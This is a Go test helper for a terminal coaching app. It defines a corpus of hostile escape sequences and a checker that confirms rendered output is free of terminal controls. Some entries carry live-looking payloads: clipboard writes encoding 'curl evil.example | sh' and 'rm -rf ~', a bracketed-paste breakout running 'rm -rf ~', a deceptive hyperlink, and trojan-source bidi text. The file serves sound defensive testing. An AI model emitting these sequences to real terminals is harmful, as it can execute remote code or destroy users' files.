package coachtest

import (
	"fmt"
	"regexp"
	"strings"
	"time"
	"unicode/utf8"

	"github.com/rebound-coach/rebound/coach"
)

// Hostile text is what people paste without looking: a rejection email
// copied out of a terminal mail client, a log line, a chat message crafted
// to attack whoever reads it. rebound stores it as typed, and no screen or
// command may hand it to the terminal raw: the tests write it into every
// field, render every screen and command, and check the output with Clean.

// HostileText is one hostile sequence between two ordinary words.
type HostileText struct {
	Name string // what it is, for test names and failures
	Seq  string // the sequence itself
	// Before and After are the words around it: a test looks for them to
	// show the text was rendered, so a blank screen cannot pass. They are
	// plain lower-case letters and digits, unique to the entry, which
	// neither markdown nor search changes.
	Before, After string
	// Harmless is set for characters that act on no terminal (zero-width
	// and separator characters): Clean accepts them, and they are here to
	// show that the words around them survive.
	Harmless bool
}

// Text is the sequence with its words around it, as it is typed.
func (h HostileText) Text() string { return h.Before + " " + h.Seq + " " + h.After }

// Hostile is the corpus: control and escape sequences a terminal acts on,
// from the 7-bit and 8-bit forms of CSI, OSC, DCS and the other strings, to
// single C0 and C1 controls, invalid UTF-8 and the bidirectional overrides
// that reorder what is shown.
var Hostile = corpus([]HostileText{
	// CSI: cursor, screen and modes.
	{Name: "CSI clear screen and home", Seq: "\x1b[2J\x1b[H"},
	{Name: "CSI erase line", Seq: "\x1b[2K\x1b[1G"},
	{Name: "CSI cursor up to overwrite earlier lines", Seq: "\x1b[3A"},
	{Name: "CSI cursor position", Seq: "\x1b[10;20H"},
	{Name: "SGR concealed text", Seq: "\x1b[8m"},
	{Name: "SGR truecolour with colons", Seq: "\x1b[38:2::255:0:0m"},
	{Name: "SGR blink red then reset", Seq: "\x1b[5;31mwarning\x1b[0m"},
	{Name: "DECSET alternate screen", Seq: "\x1b[?1049h"},
	{Name: "DECSET mouse tracking", Seq: "\x1b[?1000h\x1b[?1006h"},
	{Name: "DECRST hide cursor", Seq: "\x1b[?25l"},
	{Name: "DECSCUSR cursor style", Seq: "\x1b[5 q"},
	{Name: "xterm window resize and title report", Seq: "\x1b[8;100;200t\x1b[21t"},
	{Name: "DSR cursor position request", Seq: "\x1b[6n"},
	{Name: "bracketed paste end marker", Seq: "\x1b[201~rm -rf ~\r"},
	{Name: "8-bit CSI U+009B", Seq: "\u009b2J\u009b?1049h"},
	{Name: "raw byte 0x9b, invalid UTF-8", Seq: "\x9b2J"},
	// OSC: clipboard, links, titles, palette.
	{Name: "OSC 52 clipboard write, BEL", Seq: "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
	{Name: "OSC 52 clipboard write, ST", Seq: "\x1b]52;c;cm0gLXJmIH4K\x1b\\"},
	{Name: "OSC 52 clipboard read", Seq: "\x1b]52;c;?\x07"},
	{Name: "OSC 8 hyperlink", Seq: "\x1b]8;;https://evil.example/\x1b\\totally safe\x1b]8;;\x1b\\"},
	{Name: "OSC 0 window title", Seq: "\x1b]0;you have been pwned\x07"},
	{Name: "OSC 2 window title, ST", Seq: "\x1b]2;sudo password\x1b\\"},
	{Name: "OSC 4 palette", Seq: "\x1b]4;1;rgb:ff/ff/ff\x07"},
	{Name: "8-bit OSC U+009D with 8-bit ST", Seq: "\u009d0;title\u009c"},
	// The other strings: DCS, APC, PM, SOS.
	{Name: "DCS DECRQSS", Seq: "\x1bP$qm\x1b\\"},
	{Name: "DCS tmux passthrough", Seq: "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"},
	{Name: "8-bit DCS U+0090", Seq: "\u0090$q\"p\u009c"},
	{Name: "APC", Seq: "\x1b_payload\x1b\\"},
	{Name: "Kitty graphics APC", Seq: "\x1b_Ga=T,f=100;iVBORw0KGgo=\x1b\\"},
	{Name: "PM", Seq: "\x1b^privacy message\x1b\\"},
	{Name: "SOS", Seq: "\x1bXstart of string\x1b\\"},
	// Single escapes.
	{Name: "lone ESC", Seq: "\x1b"},
	{Name: "ESC c full reset", Seq: "\x1bc"},
	{Name: "ESC 7 and ESC 8 save and restore cursor", Seq: "\x1b7\x1b[1;1H\x1b8"},
	{Name: "ESC ( 0 line drawing charset", Seq: "\x1b(0lqqk"},
	// C0 controls.
	{Name: "BEL", Seq: "\x07\x07\x07"},
	{Name: "CR overwriting the line", Seq: "\rAll good here"},
	{Name: "backspaces", Seq: "\b\b\b\b\b\bNOT"},
	{Name: "DEL", Seq: "\x7f\x7f"},
	{Name: "NUL", Seq: "\x00"},
	{Name: "VT and FF", Seq: "\v\f"},
	{Name: "SO shift out", Seq: "\x0eshifted\x0f"},
	{Name: "CR LF from a Windows clipboard", Seq: "\r\n"},
	// C1 controls.
	{Name: "C1 NEL U+0085", Seq: "\u0085"},
	{Name: "C1 RI U+008D", Seq: "\u008d\u008d"},
	// Bidirectional controls.
	{Name: "RLO U+202E", Seq: "\u202eexe.txt"},
	{Name: "LRE RLE PDF LRO", Seq: "\u202a\u202b\u202c\u202d"},
	{Name: "isolates U+2066 to U+2069", Seq: "\u2066\u2067\u2068\u2069"},
	{Name: "trojan source", Seq: "\u202e\u2066 if admin \u2069\u2066"},
	{Name: "ALM LRM RLM", Seq: "\u061c\u200e\u200f"},
	// Harmless, but easy to mishandle.
	{Name: "zero-width space and joiner", Seq: "\u200b\u200d\u2060", Harmless: true},
	{Name: "line and paragraph separators", Seq: "\u2028\u2029", Harmless: true},
	{Name: "byte order mark", Seq: "\ufeff", Harmless: true},
})

// HostileGroup is a few entries of the corpus, tested as one text where
// testing each alone would take too long.
type HostileGroup []HostileText

// HostileGroups splits the corpus into groups of n entries.
func HostileGroups(n int) []HostileGroup {
	var out []HostileGroup
	for i := 0; i < len(Hostile); i += n {
		out = append(out, Hostile[i:min(i+n, len(Hostile))])
	}
	return out
}

// Text is the group's texts in one, apart.
func (g HostileGroup) Text() string {
	texts := make([]string, len(g))
	for i, h := range g {
		texts[i] = h.Text()
	}
	return strings.Join(texts, " | ")
}

// Names names the group's entries, for failures.
func (g HostileGroup) Names() string {
	names := make([]string, len(g))
	for i, h := range g {
		names[i] = h.Name
	}
	return strings.Join(names, ", ")
}

// corpus gives every entry its two words: "before01" and "after01" for the
// first, and so on.
func corpus(entries []HostileText) []HostileText {
	for i := range entries {
		entries[i].Before = fmt.Sprintf("before%02d", i+1)
		entries[i].After = fmt.Sprintf("after%02d", i+1)
	}
	return entries
}

// sgr is a style sequence: ESC [, parameters of digits, ";" and ":", m. It is
// the only escape sequence the app writes itself.
var sgr = regexp.MustCompile("\x1b\\[[0-9;:]*m")

// Clean reports the first character in s that a terminal would act on,
// once the styles (SGR) are set aside: a C0 control other than newline, DEL,
// a C1 control, a byte that is not UTF-8, or a bidirectional control. The
// error says where, with the text around it. It does not know about the
// app's sanitizer, so that a bug there cannot hide one here.
func Clean(s string) error {
	rest := sgr.ReplaceAllString(s, "")
	for i := 0; i < len(rest); {
		r, size := utf8.DecodeRuneInString(rest[i:])
		if what := controlName(r, size); what != "" {
			return fmt.Errorf("%s at byte %d (styles removed), in %q", what, i, around(rest, i))
		}
		i += size
	}
	return nil
}

// Check is Clean, and more for the entries that are styles: Clean cannot
// tell a style the user pasted from the app's own, so Check also looks for
// the entry's own style sequences (but a reset, which the app writes too)
// in out, which must hold none of them.
func (h HostileText) Check(out string) error {
	if err := Clean(out); err != nil {
		return err
	}
	return noStyleOf(out, h.Seq)
}

// CheckAll is Check for every entry of the corpus at once, for output that
// shows many of them.
func CheckAll(out string) error {
	if err := Clean(out); err != nil {
		return err
	}
	return noStyleOf(out, hostileStyles)
}

// hostileStyles are the corpus's sequences that hold styles, one a line.
var hostileStyles = func() string {
	var b strings.Builder
	for _, h := range Hostile {
		if sgr.MatchString(h.Seq) {
			b.WriteString(h.Seq + "\n")
		}
	}
	return b.String()
}()

// noStyleOf reports a style sequence of seqs (but a reset) found in out.
func noStyleOf(out, seqs string) error {
	for _, seq := range sgr.FindAllString(seqs, -1) {
		if seq != "\x1b[0m" && seq != "\x1b[m" && strings.Contains(out, seq) {
			i := strings.Index(out, seq)
			return fmt.Errorf("the text's own style %q at byte %d, in %q", seq, i, around(out, i))
		}
	}
	return nil
}

// controlName names r, a rune of size bytes, if a terminal acts on it.
func controlName(r rune, size int) string {
	switch {
	case r == utf8.RuneError && size == 1:
		return "a byte that is not UTF-8"
	case r == '\n':
		return ""
	case r == 0x1b:
		return "ESC (an escape sequence other than a style)"
	case r < 0x20 || r == 0x7f:
		return fmt.Sprintf("control character %U", r)
	case r >= 0x80 && r <= 0x9f:
		return fmt.Sprintf("C1 control %U", r)
	case r == 0x061c || r == 0x200e || r == 0x200f || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069):
		return fmt.Sprintf("bidirectional control %U", r)
	}
	return ""
}

// around is up to 24 bytes of s each side of i, cut at character edges.
func around(s string, i int) string {
	from, to := max(0, i-24), min(len(s), i+24)
	for from > 0 && !utf8.RuneStart(s[from]) {
		from--
	}
	for to < len(s) && !utf8.RuneStart(s[to]) {
		to++
	}
	return s[from:to]
}

// HostileSession is a complete session with text in every field that holds
// text: the intake (stage and channel too: the app fills them from its
// options, but a file can hold anything), the moods, every answer, the
// feedback request with its outcome and every date, and the actions.
func HostileSession(id, text string, at time.Time) *coach.Session {
	s := coach.NewSession(at)
	s.ID = id
	s.Status, s.Position = coach.Complete, coach.PromptMoodAfter
	s.Intake = coach.Intake{Company: text, Role: text, Interviewer: text, Stage: text,
		RejectedOn: text, Channel: text, Message: "We have decided not to move forward.\n" + text}
	s.MoodBefore = &coach.Mood{Score: 3, Word: text}
	s.MoodAfter = &coach.Mood{Score: 6, Word: text}
	s.Feedback = coach.FeedbackRequest{Draft: coach.DraftRequest(&coach.Session{Intake: s.Intake}, "") + "\n" + text,
		Send: text, SendOn: text, FollowUpOn: text, Outcome: coach.Outcome(text), OutcomeOn: text,
		Received: text, ReceivedOn: text}
	s.Actions = []coach.Action{{Text: text, Due: text}, {Text: text, Done: true, DoneOn: text}}
	for _, id := range []string{"step_back.outside", "not_personal.explanations"} {
		s.Answers[id] = coach.Answer{Items: []string{text}, Text: text} // a checklist
	}
	for _, id := range []string{"step_back.bigger_picture", "not_personal.thought", "not_personal.about_them",
		coach.PromptBalanced, "reflect.unprepared", "reflect.own_questions", "reflect.research"} {
		s.Answers[id] = coach.Answer{Text: text}
	}
	for _, id := range []string{"feedback.went_well", coach.PromptDoBetter, coach.PromptQuestions,
		"reflect.skills", "restart.target", "restart.stop", "restart.support"} {
		s.Answers[id] = coach.Answer{Items: []string{text, "plain " + strings.ToLower(id)}}
	}
	return s
}

// HostileOpenSession is HostileSession stopped at its last prompt, with an
// unfinished answer there, and with a feedback follow-up and an action due on the day it was
// started, so that home lists it to resume and as due.
func HostileOpenSession(id, text string, at time.Time) *coach.Session {
	s := HostileSession(id, text, at)
	day := at.Format(coach.DateLayout)
	s.Status, s.Position = coach.InProgress, coach.PromptMoodAfter
	s.Drafts = map[string]coach.Answer{coach.PromptMoodAfter: {Score: 4, Text: text + " unfinished"}}
	s.MoodAfter = nil
	s.Feedback.Send, s.Feedback.FollowUpOn = "yes", day
	s.Feedback.Outcome, s.Feedback.OutcomeOn, s.Feedback.Received, s.Feedback.ReceivedOn = "", "", "", ""
	s.Actions[0].Due = day
	return s
}

// HostileRound is a round of practice on a question of text, with text in
// the answer and the review (the rubric too, as a file can hold anything). A
// rating of 0 leaves it unreviewed, to be carried on.
func HostileRound(id, text string, at time.Time, rating int) *coach.Practice {
	q := coach.Question{Key: coach.QuestionKey(text), Text: text, Source: coach.FromUser}
	p := coach.NewPractice(q, 2*time.Minute, at)
	p.ID = id
	p.SetAnswer(text+"\n"+text, 70*time.Second, false, at.Add(time.Minute))
	p.SetReview(coach.Review{WentWell: text, DoBetter: text, Rubric: []string{"structure", text}, Rating: rating},
		at.Add(2*time.Minute))
	return p
}
